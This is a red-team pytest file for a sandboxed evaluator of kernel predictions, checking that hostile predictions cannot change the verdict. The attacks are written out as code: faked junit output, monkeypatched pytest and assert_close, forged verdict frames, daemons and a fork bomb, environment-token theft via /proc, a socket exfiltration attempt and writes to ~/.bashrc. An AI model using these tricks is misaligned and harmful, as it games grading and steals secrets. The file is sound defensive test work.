"""Red-team tests: one hostile prediction per attack, run by the local backend on the tiny
framework of tests/test_eval_local.py (CPU, TRITON_INTERPRET=1). Each must fail to change the
verdict, or to reach outside its sandbox. docs/security.md lists them with what stops each.

A prediction may only replace its targets (`add_kernel` and its wrapper `add`), so module-level
code is refused; the attacks run where a target's code runs: in a default argument of the
wrapper (evaluated when the module is imported, before any test), or in the wrapper's or the
kernel's body (during the tests).
"""

from __future__ import annotations

import json
import os
import socket
import time
import uuid
from dataclasses import replace
from pathlib import Path

import pytest

pytest.importorskip("torch")
pytest.importorskip("triton")

from curation.taskdir import TaskDir, task_dirs
from eval.__main__ import main as eval_main
from eval.backends import LocalBackend, RunSettings
from eval.model import FailureClass, RunResult, Variant
from eval.sandbox import GIB, SandboxPolicy
from eval.workspace import SourceStore
from mining.git import GitRepo
from tests.test_eval_local import GOOD, HANG, WRONG
from tests.tinyfw import make_task_env

WRAPPER = (
    "def add(x, y, _attack=exec({code!r})):\n"
    "    out = torch.empty_like(x)\n"
    "    n = x.numel()\n"
    "    add_kernel[(triton.cdiv(n, 64),)](x, y, out, n, BLOCK=64)\n"
    "    return out\n"
)
EXPECTED = {"tests/test_shape.py::test_shape", "tests/test_values.py::test_values"}
# pytest captures what the tests' process prints; an attack reports what it saw to a file in
# its tree (kept after the run, read by `said`)
SAY = (
    "def print(*args, **kwargs):\n"
    "    import builtins\n"
    "    with builtins.open('attack.log', 'a') as fh:\n"
    "        builtins.print(*args, file=fh)\n"
)


@pytest.fixture(scope="module")
def task_env(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, TaskDir]:
    """The tiny framework's task with a valid reference (so prediction runs know which node
    ids they must report)."""
    root = tmp_path_factory.mktemp("redteam")
    repo_path, work, tasks = make_task_env(root)
    argv = ["reference", "--tasks", str(tasks), "--work", str(work), "--runs", "1",
            "--out", str(root / "ref"), "--no-isolated-timing", "--timeout", "120",
            "--triton-cache", str(root / "cache")]  # fmt: skip
    assert eval_main(argv) == 0
    [tdir] = task_dirs(tasks)
    ref = json.loads((tdir.root / "reference.json").read_text())
    assert ref["valid"] and set(ref["fail_to_pass"] + ref["pass_to_pass"]) == EXPECTED
    assert {r["sandbox"] for r in ref["runs"]} == {"bwrap"}
    return repo_path, tdir


def run(
    task_env: tuple[Path, TaskDir],
    tmp_path: Path,
    code: str = "",
    kernel: str = WRONG,
    *,
    timeout: float = 120.0,
    policy: SandboxPolicy | None = None,
    prediction: dict | None = None,
) -> RunResult:
    """One prediction run: `kernel`, and the wrapper running `code` when pkg.ops is imported."""
    repo, tdir = task_env
    settings = RunSettings(timeout_s=timeout, isolated_timing=False, keep_trees=True,
                           sandbox=policy or SandboxPolicy(),
                           cache_root=tmp_path / "cache")  # fmt: skip
    backend = LocalBackend({"fw": SourceStore(GitRepo(repo))}, tmp_path / "scratch", settings)
    pred = prediction or {
        "task_id": tdir.id,
        "kernels": {"add_kernel": kernel, "add": WRAPPER.format(code=SAY + code)},
    }
    return backend.run(tdir.load_task(), tdir, Variant.PREDICTION, tmp_path / "run", 0, pred)


def log_of(r: RunResult) -> str:
    return Path(r.log).read_text(errors="replace")


def said(tmp_path: Path) -> str:
    """What the attack wrote to its attack.log."""
    found = list((tmp_path / "scratch").rglob("attack.log"))
    return "".join(f.read_text(errors="replace") for f in found)


def outcomes(r: RunResult) -> dict[str, str]:
    return {t.nodeid: t.outcome for t in r.tests}


def survivors(token: str) -> list[int]:
    """Host processes whose command line carries `token`."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if token.encode() in cmdline:
            found.append(int(pid))
    return found


def test_the_honest_wrong_kernel_fails_as_a_baseline(task_env, tmp_path: Path) -> None:
    """What every attack below starts from: the wrong kernel fails test_values."""
    r = run(task_env, tmp_path)
    assert r.failure is FailureClass.TEST_FAILURE and not r.passed, r.detail
    assert outcomes(r)["tests/test_values.py::test_values"] == "failed"
    assert r.sandbox == "bwrap" and r.flags == ()


def test_faked_junit_and_timing_files_are_not_read(task_env, tmp_path: Path) -> None:
    """At exit the prediction writes a passing junit XML and a 0.1 µs kernels.json wherever it
    can; the harness reads neither (and the run directory is not even visible)."""
    run_dir = tmp_path / "run"
    code = f"""
import atexit, json, os
def _fake():
    junit = ('<?xml version="1.0"?><testsuites><testsuite name="pytest" tests="2">'
             '<testcase classname="tests.test_values" name="test_values" time="0.1"/>'
             '<testcase classname="tests.test_shape" name="test_shape" time="0.1"/>'
             '</testsuite></testsuites>')
    timing = json.dumps({{"kernels": {{"add_kernel": {{"calls": 9, "total_ms": 1e-4,
                                                      "isolated_ms": 1e-4}}}}}})
    for d in ({str(run_dir)!r}, os.getcwd(), "/tmp"):
        for name, text in (("junit.xml", junit), ("kernels.json", timing)):
            try:
                with open(os.path.join(d, name), "w") as fh:
                    fh.write(text)
                print("wrote", os.path.join(d, name))
            except OSError as exc:
                print("refused", d, type(exc).__name__)
atexit.register(_fake)
"""
    r = run(task_env, tmp_path, code)
    assert "wrote /tmp/junit.xml" in said(tmp_path)  # the attack ran
    assert f"refused {run_dir}" in said(tmp_path)
    assert not (run_dir / "junit.xml").exists() and not (run_dir / "kernels.json").exists()
    assert r.failure is FailureClass.TEST_FAILURE and not r.passed
    assert outcomes(r)["tests/test_values.py::test_values"] == "failed"
    [timing] = r.kernels
    assert timing.isolated_ms is None and timing.total_ms == 0.0 and timing.calls >= 2


def test_conftest_added_by_a_patch_is_refused(task_env, tmp_path: Path) -> None:
    _, tdir = task_env
    conftest = (
        "diff --git a/tests/conftest.py b/tests/conftest.py\nnew file mode 100644\n"
        "--- /dev/null\n+++ b/tests/conftest.py\n@@ -0,0 +1,2 @@\n"
        "+def pytest_runtest_logreport(report):\n+    report.outcome = 'passed'\n"
    )
    r = run(task_env, tmp_path, prediction={"task_id": tdir.id, "patch": conftest})
    assert r.failure is FailureClass.SPLICE_ERROR and "tests/conftest.py" in r.detail
    ini = (
        "diff --git a/pytest.ini b/pytest.ini\nnew file mode 100644\n--- /dev/null\n"
        "+++ b/pytest.ini\n@@ -0,0 +1,2 @@\n+[pytest]\n+addopts = -p no:tpb_verdict\n"
    )
    r = run(task_env, tmp_path, prediction={"task_id": tdir.id, "patch": ini})
    assert r.failure is FailureClass.SPLICE_ERROR and "pytest.ini" in r.detail


def test_conftest_written_during_the_run_marks_it_tampered(task_env, tmp_path: Path) -> None:
    """Imported while the tests are collected, the prediction tries to rewrite a test file
    (read-only inside the sandbox) and writes a conftest that passes every test; the tree's
    hashes show it."""
    code = """
import os
try:
    with open("tests/test_values.py", "w") as fh:
        fh.write("def test_values():\\n    pass\\n")
    print("rewrote the test")
except OSError as exc:
    print("test file refused", type(exc).__name__)
with open("tests/conftest.py", "w") as fh:
    fh.write("def pytest_runtest_logreport(report):\\n    report.outcome = 'passed'\\n")
"""
    r = run(task_env, tmp_path, code)
    assert "test file refused" in said(tmp_path)
    assert r.failure is FailureClass.INFRA and "tampered" in r.flags and not r.passed
    assert "tests/conftest.py added" in r.detail


def test_pytest_hooks_monkeypatched_at_import(task_env, tmp_path: Path) -> None:
    """The prediction rewrites pytest's report factory so that every test passes; pytest and
    its junit XML would say "passed", the verdict says tampered."""
    code = """
from _pytest.reports import TestReport
_orig = TestReport.from_item_and_call.__func__
def _always_pass(cls, item, call):
    rep = _orig(cls, item, call)
    rep.outcome, rep.longrepr = "passed", None
    return rep
TestReport.from_item_and_call = classmethod(_always_pass)
"""
    r = run(task_env, tmp_path, code)
    assert outcomes(r)["tests/test_values.py::test_values"] == "passed"  # the attack worked
    assert r.failure is FailureClass.INFRA and not r.passed and "tampered" in r.flags
    assert "TestReport.from_item_and_call replaced" in r.detail


def test_assert_close_monkeypatched_at_import(task_env, tmp_path: Path) -> None:
    """The simplest way to pass a numeric test: make the comparison a no-op."""
    code = "import torch\ntorch.testing.assert_close = lambda *args, **kwargs: None\n"
    r = run(task_env, tmp_path, code)
    assert outcomes(r)["tests/test_values.py::test_values"] == "passed"  # the attack worked
    assert r.failure is FailureClass.INFRA and not r.passed and "tampered" in r.flags
    assert "torch.testing.assert_close runs code from outside the installation" in r.detail


def test_os_exit_before_the_tests_run(task_env, tmp_path: Path) -> None:
    r = run(task_env, tmp_path, "import os\nos._exit(0)\n")
    assert r.exit_code == 0 and r.tests == ()
    assert r.failure is FailureClass.CRASH and not r.passed
    assert "before pytest finished its session" in r.detail


def test_pytest_skip_at_import(task_env, tmp_path: Path) -> None:
    r = run(task_env, tmp_path, "import pytest\npytest.skip('later', allow_module_level=True)\n")
    assert r.tests and all(t.outcome == "skipped" for t in r.tests)
    assert r.failure is FailureClass.INFRA and not r.passed
    assert "unreported_tests" in r.flags  # neither expected test was reported


def test_plugin_tampered_through_sys_modules(task_env, tmp_path: Path) -> None:
    """The prediction finds the verdict plugin in sys.modules, makes its channel report every
    test as passed, and hides the module; the plugin's hooks were bound at import and still
    report the truth, and the replacement is reported."""
    code = """
import sys, types
real = sys.modules["tpb_verdict"]
_send = real._Channel.send
def send(self, kind, **fields):
    if kind == "report":
        fields.update(outcome="passed", message="")
    if kind != "tampered":
        _send(self, kind, **fields)
real._Channel.send = send
real.Integrity.changes = lambda self: []
sys.modules["tpb_verdict"] = types.ModuleType("tpb_verdict")
"""
    r = run(task_env, tmp_path, code)
    assert outcomes(r)["tests/test_values.py::test_values"] == "failed"
    assert r.failure is FailureClass.INFRA and not r.passed and "tampered" in r.flags
    assert "sys.modules['tpb_verdict'] replaced" in r.detail


def test_frames_forged_without_the_key(task_env, tmp_path: Path) -> None:
    """The prediction finds the channel's pipe and writes frames that say "passed"."""
    code = """
import base64, json, os, stat
body = base64.b64encode(json.dumps({"kind": "report", "nodeid":
    "tests/test_values.py::test_values", "when": "call", "outcome": "passed"}).encode()).decode()
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            for seq in range(1, 40):
                os.write(fd, f"TPB1 {seq} {'0' * 64} {body}\\n".encode())
            print("forged on fd", fd)
    except OSError:
        pass
"""
    r = run(task_env, tmp_path, code)
    assert "forged on fd" in said(tmp_path)
    assert r.failure is FailureClass.INFRA and not r.passed and "verdict_channel" in r.flags
    assert "bad signature" in r.detail


def test_setsid_daemon_does_not_outlive_the_run(task_env, tmp_path: Path) -> None:
    token = f"tpb-daemon-{uuid.uuid4().hex}"
    code = f"""
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", {token!r}])
        print("daemon started", flush=True)
    os._exit(0)
os.wait()
"""
    r = run(task_env, tmp_path, code, kernel=GOOD)
    assert r.passed and r.failure is FailureClass.NONE, r.detail  # the verdict is the kernel's
    assert "daemon started" in said(tmp_path)
    time.sleep(1.0)
    assert survivors(token) == []


def test_infinite_loop_in_the_kernel_is_killed_with_its_daemon(task_env, tmp_path: Path) -> None:
    token = f"tpb-hang-{uuid.uuid4().hex}"
    code = f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", {token!r}],
                 start_new_session=True)
"""
    r = run(task_env, tmp_path, code, kernel=HANG, timeout=10)
    assert r.failure is FailureClass.TIMEOUT and r.exit_code is None and not r.passed
    assert 10 <= r.wall_s < 40
    time.sleep(1.0)
    assert survivors(token) == []


def test_writes_to_the_task_directory_and_home_fail(task_env, tmp_path: Path, monkeypatch) -> None:
    _, tdir = task_env
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    before = {p.name: p.read_bytes() for p in tdir.root.iterdir() if p.is_file()}
    code = f"""
import os
for path in ({str(tdir.root / "gold.patch")!r}, {str(tdir.root / "reference.json")!r},
             {str(home / "pwned")!r}, os.path.expanduser("~/.bashrc")):
    try:
        with open(path, "a") as fh:
            fh.write("pwned")
        print("wrote", path)
    except OSError as exc:
        print("refused", path, type(exc).__name__)
try:
    print("gold leaked", open({str(tdir.root / "gold.patch")!r}).read()[:20])
except OSError as exc:
    print("gold unreadable", type(exc).__name__)
"""
    r = run(task_env, tmp_path, code)
    text = said(tmp_path)
    assert "refused" in text and "gold unreadable" in text and "gold leaked" not in text
    assert {p.name: p.read_bytes() for p in tdir.root.iterdir() if p.is_file()} == before
    assert list(home.iterdir()) == []
    assert r.failure is FailureClass.TEST_FAILURE


def test_network_connection_to_the_host_fails(task_env, tmp_path: Path) -> None:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.setblocking(False)
        port = server.getsockname()[1]
        code = f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"exfiltrated")
    print("connected")
except OSError as exc:
    print("no connection", type(exc).__name__)
"""
        r = run(task_env, tmp_path, code)
        with pytest.raises(BlockingIOError):
            server.accept()
    assert "no connection" in said(tmp_path) and "connected\n" not in said(tmp_path)
    assert r.failure is FailureClass.TEST_FAILURE


def test_environment_token_is_not_visible(task_env, tmp_path: Path, monkeypatch) -> None:
    secret = f"ghp_{uuid.uuid4().hex}"
    monkeypatch.setenv("GITHUB_TOKEN", secret)
    monkeypatch.setenv("TRITON_UPLOAD_TOKEN", secret)  # an allowed prefix does not let it in
    code = """
import os
print("environ:", dict(os.environ))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print("proc", pid, open(f"/proc/{pid}/environ", "rb").read())
        except OSError as exc:
            print("proc", pid, type(exc).__name__)
with open("leak.txt", "w") as fh:
    fh.write(repr(dict(os.environ)))
"""
    r = run(task_env, tmp_path, code)
    text = said(tmp_path) + log_of(r)
    assert "environ:" in text and secret not in text
    tree = tmp_path / "scratch"
    assert any(tree.rglob("leak.txt"))
    for f in tree.rglob("*"):
        if f.is_file():
            assert secret.encode() not in f.read_bytes(), f


def test_fork_bomb_is_contained(task_env, tmp_path: Path) -> None:
    token = f"tpb-bomb-{uuid.uuid4().hex}"
    policy = replace(SandboxPolicy(), processes=128)
    code = f"""
import os, sys
made = 0
for _ in range(100000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", {token!r}])
    made += 1
print("forked", made, flush=True)
"""
    r = run(task_env, tmp_path, code, policy=policy, timeout=60)
    made = int(said(tmp_path).split("forked ", 1)[1].split()[0])
    assert 0 < made < policy.processes  # the process limit stopped it
    assert not r.passed  # and the wrong kernel still fails
    time.sleep(1.0)
    assert survivors(token) == []


def test_huge_allocation_is_refused(task_env, tmp_path: Path) -> None:
    policy = replace(SandboxPolicy(), memory_bytes=4 * GIB)
    code = """
try:
    hog = bytearray(20 << 30)
    hog[:: 1 << 12] = b"x" * len(hog[:: 1 << 12])
    print("allocated 20 GiB")
except MemoryError:
    print("allocation refused")
"""
    r = run(task_env, tmp_path, code, kernel=GOOD, policy=policy)
    assert "allocation refused" in said(tmp_path) and "allocated" not in said(tmp_path)
    assert r.passed  # the limit stopped the attack; the kernel's verdict stands


def test_a_tampered_run_is_neither_executed_nor_completed(task_env, tmp_path: Path) -> None:
    """Through the scorer: the hook-patching attack of above, whose tests all say "passed"."""
    repo, tdir = task_env
    code = (
        "from _pytest.reports import TestReport\n"
        "_orig = TestReport.from_item_and_call.__func__\n"
        "def _pass(cls, item, call):\n"
        "    rep = _orig(cls, item, call)\n"
        "    rep.outcome, rep.longrepr = 'passed', None\n"
        "    return rep\n"
        "TestReport.from_item_and_call = classmethod(_pass)\n"
    )
    pred = {"task_id": tdir.id, "kernels": {"add_kernel": WRONG, "add": WRAPPER.format(code=code)}}
    preds = tmp_path / "p.jsonl"
    preds.write_text(json.dumps(pred) + "\n")
    out = tmp_path / "score"
    argv = ["score", str(preds), "--tasks", str(tdir.root.parent), "--repo-path",
            f"fw={repo}", "--out", str(out), "--no-isolated-timing",
            "--triton-cache", str(tmp_path / "cache")]  # fmt: skip
    assert eval_main(argv) == 0
    [row] = json.loads((out / "report.json").read_text())["tasks"]
    assert not row["passed"] and not row["exec_ok"] and row["failure"] == "infra"
    assert {"tampered", "forbidden_api"} <= set(row["flags"])
